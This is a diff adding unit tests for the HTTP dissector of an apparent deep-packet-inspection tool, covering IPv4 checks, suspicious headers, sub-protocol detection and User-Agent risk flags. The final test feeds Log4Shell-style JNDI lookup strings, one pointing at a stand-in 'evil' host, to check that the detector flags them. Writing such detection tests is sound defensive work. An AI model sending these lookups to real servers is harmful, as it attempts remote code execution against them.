@@ -1,7 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { dissect, prefixes } from '../harness';
-import { dissector as http } from '../../../src/dpi/protocols/http';
+import { dissector as http, isIpv4 } from '../../../src/dpi/protocols/http';
 
 const only = [http];
 
@@ -141,4 +141,66 @@ test('http: every truncation of a request and a response is handled; only a comp
     const r = dissect({ serverPort: 5000, dissectors: only }, [{ payload: req }, { dir: 1, payload: b }]);
     assert.equal(r.name, 'HTTP');
   }
+});
+
+test('http: isIpv4 takes four groups of one to three digits', () => {
+  for (const s of ['1.2.3.4', '10.0.0.255', '999.999.999.999', '001.2.3.4']) assert.equal(isIpv4(s), true, s);
+  for (const s of ['', '1.2.3', '1.2.3.4.', '.1.2.3', '1..2.3', '1.2.3.4444', '1.2.3.a', 'a.b.c.d', '1.2.3.4:80']) {
+    assert.equal(isIpv4(s), false, s);
+  }
+});
+
+test('http: bot report headers (any case) and an IPv4 Host that is not the server are HTTP Susp Header', () => {
+  const req = (headers: string): string => `GET / HTTP/1.1\r\n${headers}User-Agent: UA/1.0\r\n\r\n`;
+  const risky = (headers: string, server = '10.0.0.2'): boolean =>
+    dissect({ serverPort: 80, server, dissectors: only }, [{ payload: req(headers) }]).risks.includes('HTTP Susp Header');
+  assert.equal(risky('Host: example.net\r\n'), false);
+  assert.equal(risky('Host: example.net\r\nOS: Windows 10\r\n'), true);
+  assert.equal(risky('Host: example.net\r\nTLS_Version: 1.2\r\n'), true);
+  assert.equal(risky('Host: example.net\r\nS: 1\r\n'), true);
+  assert.equal(risky('Host: example.net\r\nOSes: 1\r\nAccept: */*\r\nX-Hire: me\r\n'), false);
+  assert.equal(risky('Host: 10.0.0.2\r\n'), false);
+  assert.equal(risky('Host: 10.0.0.2:8080\r\n'), false);
+  assert.equal(risky('Host: 10.0.0.3\r\n'), true);
+});
+
+test('http: sub-protocols recognised from the URL and the User-Agent (WindowsUpdate, Ookla, Xiaomi)', () => {
+  const cases: [string, string][] = [
+    ['GET /filestreamingservice/files/x?P1=1 HTTP/1.1\r\nHost: 10.0.0.2\r\n' +
+      'User-Agent: Microsoft-Delivery-Optimization/10.0\r\nReferer: http://download.windowsupdate.com/x\r\n\r\n', 'HTTP'],
+    ['GET /download.windowsupdate.com/c/x.cab HTTP/1.1\r\nHost: 10.0.0.2\r\n' +
+      'User-Agent: Microsoft-Delivery-Optimization/10.0\r\n\r\n', 'HTTP.WindowsUpdate'],
+    ['GET /download.windowsupdate.com/c/x.cab HTTP/1.1\r\nHost: cache.example.net\r\n' +
+      'User-Agent: Microsoft-Delivery-Optimization/10.0\r\n\r\n', 'HTTP'],
+    ['GET /upload?n=0.5 HTTP/1.1\r\nHost: speed.example.net:8080\r\nUser-Agent: UA/1.0\r\n\r\n', 'HTTP.Ookla'],
+    ['GET /upload?n=0.5 HTTP/1.1\r\nHost: speed.example.net:8081\r\nUser-Agent: UA/1.0\r\n\r\n', 'HTTP'],
+    ['GET / HTTP/1.1\r\nHost: h.example.net\r\nReferer: http://www.speedtest.net/\r\nUser-Agent: UA/1.0\r\n\r\n', 'HTTP.Ookla'],
+    ['GET /x HTTP/1.1\r\nHost: api.micloud.xiaomi.net\r\nUser-Agent: UA/1.0\r\n\r\n', 'HTTP.Xiaomi'],
+    ['GET /seg-1.m4s HTTP/1.1\r\nHost: cdn.example.io\r\nUser-Agent: UA/1.0\r\n\r\n', 'HTTP.MpegDash'],
+    ['GET /seg-1.m4s HTTP/1.0\r\nHost: cdn.example.io\r\nUser-Agent: UA/1.0\r\n\r\n', 'HTTP'],
+    ['GET /seg-1 HTTP/1.0\r\nHost: cdn.example.io\r\nDASH-Version: 1\r\nUser-Agent: UA/1.0\r\n\r\n', 'HTTP.MpegDash'],
+    ['RPC_IN_DATA /rpc/rpcproxy.dll HTTP/1.1\r\nHost: mail.example.net\r\nUser-Agent: MSRPC\r\n\r\n', 'HTTP.MS-RPCH'],
+  ];
+  for (const [req, want] of cases) {
+    const r = dissect({ serverPort: 80, server: '10.0.0.2', dissectors: only }, [{ payload: req }]);
+    assert.equal(r.name, want, req.slice(0, 50));
+  }
+});
+
+test('http: User-Agent risks (bots, Log4J-like lookups, odd shapes) and none for a browser', () => {
+  const risks = (ua: string): string[] =>
+    dissect({ serverPort: 80, dissectors: only }, [
+      { payload: `GET / HTTP/1.1\r\nHost: example.net\r\nUser-Agent: ${ua}\r\n\r\n` },
+      { dir: 1, payload: 'HTTP/1.1 204 No Content\r\n\r\n' },
+    ]).risks;
+  assert.deepEqual(risks('Mozilla/5.0 (X11; Linux x86_64; rv:92.0) Gecko/20100101 Firefox/92.0'), []);
+  assert.ok(risks('Googlebot/2.1 (+http://www.google.com/bot.html)').includes('Crawler/Bot'));
+  assert.ok(risks('SomeCRAWLER 1.0').includes('Crawler/Bot'));
+  assert.ok(risks('${jndi:ldap://x}').includes('HTTP Susp User-Agent'));
+  assert.ok(risks('jndi:ldap://evil/a').includes('Possible Exploit Attempt'));
+  assert.ok(risks('ABCDEFGHijklmnop').includes('HTTP Susp User-Agent'));
+  assert.deepEqual(risks('abcdefghijklmnop'), []);
+  assert.ok(risks('agent-v1 file://x').includes('HTTP Susp User-Agent'));
+  assert.ok(!risks('agent-v1 ftp://x').includes('HTTP Susp User-Agent'));
+  assert.ok(risks('abc').includes('HTTP Susp User-Agent'));
 });
